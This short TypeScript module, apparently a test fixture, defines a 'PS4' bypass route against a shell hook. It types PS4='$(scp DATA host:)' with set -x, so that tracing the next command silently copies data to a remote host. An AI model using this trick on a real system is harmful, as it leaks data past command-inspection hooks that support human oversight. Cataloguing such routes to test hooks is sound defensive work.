import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'terminal',
  name: 'PS4',
  source: 'attempts to get round a hook of the shell',
  keys: ["PS4='$(scp DATA host:)'; set -x\r", 'true\r'],
};
